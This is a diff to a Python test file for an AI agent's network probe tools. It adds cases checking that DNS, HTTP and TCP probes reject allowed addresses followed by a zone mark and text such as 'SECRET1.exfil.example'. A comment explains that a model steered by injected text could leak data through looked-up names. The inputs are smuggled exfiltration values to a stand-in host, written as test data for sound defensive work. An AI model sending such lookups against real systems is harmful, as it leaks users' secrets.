@@ -329,6 +329,13 @@ def nothing_leaves(monkeypatch):
     ("host_probe_dns", {"name": "203.0.113.7", "type": "PTR"}, "address '203.0.113.7'"),
     ("host_probe_dns", {"name": "svc.test", "server": "203.0.113.53"}, "address '203.0.113.53'"),
     ("host_probe_dns", {"name": "example.test"}, "host 'example.test'"),  # *.x lists x's names, not x itself
+    # an allowed address with text after a zone mark: the lookup of the whole name would carry the text out
+    ("host_probe_dns", {"name": "127.0.0.1%dnsprobe-SECRET1.exfil.example"}, "(an address with a zone)"),
+    ("host_probe_dns", {"name": "::1%dnsv6-SECRET5.exfil.example", "type": "TXT"}, "(an address with a zone)"),
+    ("host_probe_dns", {"name": "10.0.0.1%ptr-SECRET6.exfil.example", "type": "PTR"}, "(an address with a zone)"),
+    ("host_probe_http", {"url": "http://127.0.0.1%25x.exfil.example/"}, "(an address with a zone)"),
+    ("host_probe_tcp", {"target": "127.0.0.1%x.exfil.example", "port": 80}, "(an address with a zone)"),
+    ("host_probe_dns", {"name": "a\\.b.example.test"}, ".b.example.test'"),  # not a plain host name
 ])
 async def test_a_probe_reaches_only_listed_names_and_allowed_addresses(tool, args, what, nothing_leaves):
     # a model steered by text it read could carry data out in a name it looks up or a URL it asks for:
